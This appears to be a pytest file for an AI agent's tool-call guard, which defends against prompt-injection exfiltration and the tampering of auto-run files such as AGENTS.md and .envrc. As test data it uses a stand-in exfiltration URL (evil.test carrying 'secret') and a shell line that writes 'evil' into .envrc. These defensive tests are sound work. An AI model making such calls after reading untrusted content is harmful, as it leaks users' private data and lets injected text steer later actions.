"""Calls under the guard: what asks, whom it asks, and which files carry a label on."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from goclaw.common.auth.access import Access, ChosenMode
from goclaw.common.auth.users import User, Users
from goclaw.common.config.schema import Config
from goclaw.common.core.clock import SteppedClock
from goclaw.common.core.events import Actor, Address
from goclaw.common.core.messages import SourceKind, ToolCall, ToolResult
from goclaw.common.specs import Risk, SideEffect
from goclaw.common.workspace import Workspace
from goclaw.durable.store.blobs import open_blobs
from goclaw.durable.store.file_labels import FileLabels
from goclaw.durable.store.open import open_database
from goclaw.tools.approval.guard import Part, Route, Sink, WindowContent
from goclaw.tools.approval.requests import Approval, ApprovalRequest
from goclaw.tools.toolkit.base import ToolContext, guarded, tool
from goclaw.tools.toolkit.dispatcher import Dispatcher
from goclaw.tools.toolkit.registry import Registry
from goclaw.tools.toolkit.scheduling import ResourceUse
from goclaw.tools.toolkit.scope import CallScope
from goclaw.tools.toolkit.services import TurnServices
from tests.parts import Environment, Tools

ANNA = Actor("telegram:1", "telegram")
PAGE, NOTES = Part("example.org", "words", foreign=True), Part("notes.md", "secret", private=True)


@guarded(lambda arguments, ctx: Sink(Route.ADDRESS, arguments.url))
@tool(side_effect=SideEffect.NETWORK, risk=Risk.LOW)
async def fetch(ctx: ToolContext, url: str) -> str:
    """Open an address."""
    return "opened"


@tool(side_effect=SideEffect.READ_ONLY, tags=("filesystem",), access=lambda a, ctx: ResourceUse(reads=(a.path,)))
async def look(ctx: ToolContext, path: str) -> str:
    """Read a file."""
    return (ctx.workspace.root / path).read_text()


@tool(side_effect=SideEffect.MUTATING, tags=("filesystem",), access=lambda a, ctx: ResourceUse(writes=(a.path,)))
async def put(ctx: ToolContext, path: str, text: str) -> str:
    """Write a file."""
    (ctx.workspace.root / path).write_text(text)
    return "written"


@tool(side_effect=SideEffect.READ_ONLY, tags=("shell",), access=lambda a, ctx: ResourceUse(category="shell"))
async def run(ctx: ToolContext, line: str) -> str:
    """Run a line."""
    process = await asyncio.create_subprocess_shell(
        line, cwd=ctx.workspace.root, stdout=asyncio.subprocess.PIPE, stdin=asyncio.subprocess.DEVNULL
    )
    return (await process.communicate())[0].decode()


@dataclass
class Desk(TurnServices):
    """A dispatcher with a window that the test fills."""

    folder: Path
    labels: FileLabels
    environment: Environment
    seen: WindowContent | None = field(default_factory=lambda: WindowContent([]))
    approves: bool = False
    asked: list[ApprovalRequest] = field(default_factory=list)
    chosen: ChosenMode | None = None
    config: Config = field(default_factory=Config)

    def read(self, *parts: Part) -> None:
        self.seen = WindowContent(parts)

    async def call(self, name: str, **given: Any) -> ToolResult:
        access = Access(Users([User("telegram:1", roles=frozenset({"some"}))]), self.config)
        registry = Registry([Tools([fetch, look, put, run])], access)
        dispatcher = Dispatcher(registry, access, self.environment, labels=self.labels)
        scope = CallScope(actor=ANNA, session="s", address=Address("memory", "c"), services=self, turn="t1")
        return await dispatcher.call(ToolCall("c1", name, given), scope)

    async def is_labelled(self, path: str) -> bool:
        result = await self.call("look", path=path)
        return result.provenance is not None and result.provenance.kind is SourceKind.DOCUMENT

    def window(self) -> WindowContent | None:
        return self.seen

    def chosen_mode(self) -> ChosenMode | None:
        return self.chosen

    async def approve(self, wanted: ApprovalRequest) -> Approval:
        self.asked.append(wanted)
        return Approval(wanted.digest) if self.approves else Approval(refusal="nobody approved it")


def config(**role: Any) -> Config:
    return Config.model_validate({"roles": {"some": role}})


@pytest.fixture
async def desk(tmp_path: Path) -> AsyncIterator[Desk]:
    folder = tmp_path / "workspace"
    folder.mkdir()
    async with opened(tmp_path, folder) as made:
        yield made


@asynccontextmanager
async def opened(state: Path, folder: Path) -> AsyncIterator[Desk]:
    async with (
        open_database(state / "a.db") as database,
        open_blobs(state / "blobs") as blobs,
        Workspace(folder) as workspace,
    ):
        environment = Environment(Config(), SteppedClock(), blobs, workspace)
        yield Desk(folder, FileLabels(database), environment, config=config())


@pytest.mark.promise("P-guard")
async def test_a_made_up_address_asks_and_its_host_may_be_allowed_for_good(desk: Desk) -> None:
    desk.read(PAGE, NOTES)
    result = await desk.call("fetch", url="https://evil.test/?d=secret")
    assert result.denied
    (asked,) = desk.asked
    assert asked.grounds.lines[0] == (
        "This address was made up after reading example.org, and could carry what was read from notes.md."
    )
    assert (asked.grounds.pattern, asked.grounds.labels) == (("guard: evil.test",), ("evil.test",))
    desk.approves = True
    assert (await desk.call("fetch", url="https://evil.test/?d=secret")).content == "opened"


async def test_nothing_asks_where_no_model_makes_the_call_or_one_label_is_missing(desk: Desk) -> None:
    for seen in (None, WindowContent([PAGE]), WindowContent([NOTES])):
        desk.seen = seen
        assert (await desk.call("fetch", url="https://evil.test/?d=secret")).content == "opened"
    assert desk.asked == []


@pytest.mark.promise("P-guard")
@pytest.mark.parametrize(("guard", "text"), [("deny", "the guard refuses that for these people"), ("off", "")])
async def test_a_role_may_have_it_refused_or_let_through(desk: Desk, guard: str, text: str) -> None:
    desk.read(PAGE, NOTES)
    desk.config = config(guard=guard)
    result = await desk.call("fetch", url="https://evil.test/?d=secret")
    assert desk.asked == []
    assert text in result.content if text else result.content == "opened"
    assert result.is_error is bool(text)


@pytest.mark.promise("P-guard")
async def test_in_plan_mode_it_is_refused(desk: Desk) -> None:
    desk.read(PAGE, NOTES)
    desk.chosen = ChosenMode("plan", "default")
    result = await desk.call("fetch", url="https://evil.test/?d=secret")
    assert result.is_error
    assert "the session is in plan mode" in result.content
    assert desk.asked == []


@pytest.mark.promise("P-guard")
async def test_a_file_that_acts_later_asks_after_others_words(desk: Desk) -> None:
    assert (await desk.call("put", path="AGENTS.md", text="x")).content == "written"
    desk.read(PAGE)
    assert (await desk.call("put", path="notes.md", text="x")).content == "written"
    assert (await desk.call("put", path="AGENTS.md", text="y")).denied
    assert (desk.folder / "AGENTS.md").read_text() == "x"
    (asked,) = desk.asked
    assert asked.grounds.lines[0].startswith("After reading example.org: AGENTS.md is changed, which acts later.")


@pytest.mark.promise("P-guard")
async def test_what_a_command_leaves_that_acts_later_is_set_aside_and_told(desk: Desk) -> None:
    desk.read(PAGE)
    result = await desk.call("run", line="echo evil > .envrc; echo fine > notes.md")
    assert not (desk.folder / ".envrc").exists()
    assert (desk.folder / "set-aside/envrc").read_text() == "evil\n"
    assert (desk.folder / "notes.md").read_text() == "fine\n"
    assert "[set aside in set-aside/: .envrc." in result.content
    desk.read()
    assert "set aside" not in (await desk.call("run", line="echo mine > .envrc")).content
    assert (desk.folder / ".envrc").exists()


@pytest.mark.promise("P-guard")
async def test_a_file_written_after_others_words_carries_their_label(desk: Desk) -> None:
    desk.read(PAGE)
    await desk.call("put", path="summary.md", text="theirs")
    await desk.call("run", line="echo theirs > made.md")
    desk.read()
    await desk.call("put", path="after.md", text="mine")
    labelled = [name for name in ("after.md", "summary.md", "made.md") if await desk.is_labelled(name)]
    assert labelled == ["summary.md", "made.md"]
    assert await desk.is_labelled("summary.md"), "reading it changes nothing"


@pytest.mark.promise("P-guard")
@pytest.mark.parametrize(
    ("line", "path"),
    [
        ("mv summary.md trip.md", "trip.md"),
        ("cat summary.md > trip.md; echo x >> summary.md", "trip.md"),
        ("echo x >> summary.md", "summary.md"),
    ],
)
async def test_a_label_goes_on_with_a_file_that_a_command_moves_or_changes(desk: Desk, line: str, path: str) -> None:
    desk.read(PAGE)
    await desk.call("put", path="summary.md", text="theirs\n")
    desk.read()
    await desk.call("run", line=line)
    assert await desk.is_labelled(path)


@pytest.mark.promise("P-guard")
async def test_what_a_command_prints_may_come_from_a_labelled_file(desk: Desk) -> None:
    before = await desk.call("run", line="echo x")
    assert before.provenance is not None
    assert before.provenance.kind is SourceKind.TOOL
    desk.read(PAGE)
    await desk.call("put", path="summary.md", text="theirs\n")
    desk.read()
    result = await desk.call("run", line="cat *.md")
    assert result.provenance is not None
    assert result.provenance.kind is SourceKind.DOCUMENT


@pytest.mark.promise("P-guard")
async def test_a_change_by_a_person_ends_the_label(desk: Desk) -> None:
    desk.read(PAGE)
    await desk.call("put", path="summary.md", text="theirs")
    desk.read()
    assert await desk.is_labelled("summary.md")
    (desk.folder / "summary.md").write_text("a person's words")
    assert not await desk.is_labelled("summary.md")
    assert dict(await desk.labels.of(str(desk.folder))) == {}
